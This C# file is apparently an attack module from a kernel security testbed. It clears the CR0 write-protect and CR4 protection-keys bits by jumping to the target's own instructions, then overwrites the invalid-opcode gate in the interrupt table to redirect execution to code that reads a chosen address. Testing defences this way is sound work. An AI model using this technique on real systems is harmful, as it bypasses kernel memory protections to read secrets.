using System.Runtime;
using System.Runtime.CompilerServices;

namespace Testbed.Attacks.D16;

/// <summary>
/// Jumps to T's own MOV CR0, to clear WP, and in the next life to its own MOV CR4, to clear PKE. Behind the first one, code reads a word of T's: a key
/// fault, and WP stays clear. Behind the second one stands a WRPKRU, which without keys is no instruction; so where WP is clear, the
/// gate of that exception in the interrupt table is made to lead to code that reads what <c>target=</c> names.
/// </summary>
static class Payload
{
    const ulong WriteProtect = 1 << 16, Keys = 1 << 22;         // CR0.WP, CR4.PKE (SDM vol. 3A, "Control Registers")
    const nuint InvalidOpcode = 6, GateBytes = 16;              // SDM vol. 3A, "64-Bit Mode IDT"
    const ulong Kept = 0x0000_FFFF_FFFF_0000;                   // of a gate's first word: selector, stack, type
    const int Half = 16, Upper = 32;

    public static void Run(ulong attempt)
    {
        if (!Attempt.TryBegin(attempt, attempts: 2))
            return;
        if (attempt == 0)
        {
            Site.Enter(Attempt.Address("write-protect"u8), ControlRegister0() & ~WriteProtect, 0);
        }
        else
        {
            if ((ControlRegister0() & WriteProtect) == 0)
                Lead(D19.Payload.InterruptTable() + InvalidOpcode * GateBytes, WithoutKeys(Attempt.Address("target"u8)));
            Site.Enter(Attempt.Address("keys"u8), ControlRegister4() & ~Keys, 0);
        }
        Attempt.End();
    }

    static void Lead(nuint gate, ulong place)
    {
        Raw.Store(gate, (Raw.Load(gate) & Kept) | (place & ushort.MaxValue) | ((place >> Half & ushort.MaxValue) << (Upper + Half)));
        Raw.Store(gate + sizeof(ulong), place >> Upper);
    }

    [RuntimeImport("*", "control_register_0"), MethodImpl(MethodImplOptions.InternalCall)]
    static extern ulong ControlRegister0();

    [RuntimeImport("*", "control_register_4"), MethodImpl(MethodImplOptions.InternalCall)]
    static extern ulong ControlRegister4();

    [RuntimeImport("*", "without_keys"), MethodImpl(MethodImplOptions.InternalCall)]
    static extern nuint WithoutKeys(nuint target);
}
